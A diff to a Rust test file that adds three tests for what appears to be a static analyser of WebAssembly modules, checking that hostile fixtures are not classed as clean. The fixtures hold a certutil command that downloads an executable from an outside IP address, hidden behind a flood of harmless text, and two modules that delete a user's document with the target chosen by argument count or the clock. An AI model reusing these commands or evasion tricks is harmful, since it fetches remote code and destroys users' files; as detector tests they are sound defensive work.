@@ -182,6 +182,78 @@ fn a_text_that_is_repeated_starves_no_rule() {
     assert_eq!(plain.class, flood.class, "{:?}\n{:?}", plain.reasons, flood.reasons);
 }
 
+/// Four thousand texts that are all different, before a command.
+#[test]
+fn a_rule_that_was_starved_leaves_nothing_clean() {
+    let letters: String = (0..10)
+        .map(|number| {
+            let (at, bits) = (8201 + 400 * number, 3 * (number % 4));
+            format!(
+                "(i32.store8 (i32.const {at}) (i32.add (i32.const 97)
+                   (i32.rem_u (i32.shr_u (local.get $i) (i32.const {bits})) (i32.const 8))))"
+            )
+        })
+        .collect();
+    let flood = analysed(&format!(
+        r#"(module (import "page" "show" (func $show (param i32 i32))) (memory (export "memory") 16)
+             (data (i32.const 6000) "The beds are planted and the water tank was delivered on Monday says the report.")
+             (data (i32.const 700) "certutil -urlcache -f http://203.0.113.9/a.exe a.exe")
+             (func (export "draw") (local $i i32)
+               (loop $c (memory.copy (i32.add (i32.const 8192) (i32.mul (local.get $i) (i32.const 80)))
+                   (i32.const 6000) (i32.const 80))
+                 (br_if $c (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 60))))
+               (local.set $i (i32.const 6000))
+               (loop $f {letters} (call $show (i32.const 8192) (i32.const 4000))
+                 (br_if $f (local.tee $i (i32.sub (local.get $i) (i32.const 1)))))
+               (call $show (i32.const 700) (i32.const 52))))"#
+    ));
+    assert_ne!(flood.verdict.class, Class::Clean, "{:?}", flood.verdict.reasons);
+}
+
+/// The number of arguments chooses which file is deleted.
+#[test]
+fn a_number_of_arguments_chooses() {
+    let text = r#"(module
+        (import "wasi_snapshot_preview1" "args_sizes_get" (func $sizes (param i32 i32) (result i32)))
+        (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
+        (memory (export "memory") 2)
+        (data (i32.const 1024) "tmp/cache/x.tmp\00home/user/a.doc\00")
+        (func (export "_start")
+          (drop (call $sizes (i32.const 8) (i32.const 12)))
+          (drop (call $unlink (i32.const 3) (i32.add (i32.const 1024)
+            (i32.mul (i32.const 16) (i32.sub (i32.load (i32.const 8)) (i32.const 1)))) (i32.const 15)))))"#;
+    let verdict = analysed(text).verdict;
+    assert_ne!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
+}
+
+/// The time says how often a loop turns, and that chooses which file is deleted.
+#[test]
+fn turns_of_a_loop_choose() {
+    let of = |unlink: &str| {
+        class(&format!(
+            r#"(module
+        (import "wasi_snapshot_preview1" "clock_time_get" (func $clock (param i32 i64 i32) (result i32)))
+        (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
+        (memory (export "memory") 2)
+        (data (i32.const 1024) "tmp/cache/x.tmp\00home/user/a.doc\00")
+        (func $days (result i32)
+          (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 8)))
+          (i32.and (i32.wrap_i64 (i64.shr_u (i64.load (i32.const 8)) (i64.const 55))) (i32.const 1)))
+        (func (export "_start") (local $n i32) (local $p i32)
+          (local.set $p (i32.const 1024))
+          (local.set $n (call $days))
+          (block $o (loop $l
+            (br_if $o (i32.eqz (local.get $n)))
+            (local.set $n (i32.sub (local.get $n) (i32.const 1)))
+            (local.set $p (i32.add (local.get $p) (i32.const 16)))
+            (br $l)))
+          {unlink}))"#
+        ))
+    };
+    assert_eq!(of(""), Class::Clean);
+    assert_ne!(of("(drop (call $unlink (i32.const 3) (local.get $p) (i32.const 15)))"), Class::Clean);
+}
+
 /// A flag that one function keeps in a global, and another calls by.
 #[test]
 fn a_flag_may_be_set_elsewhere() {
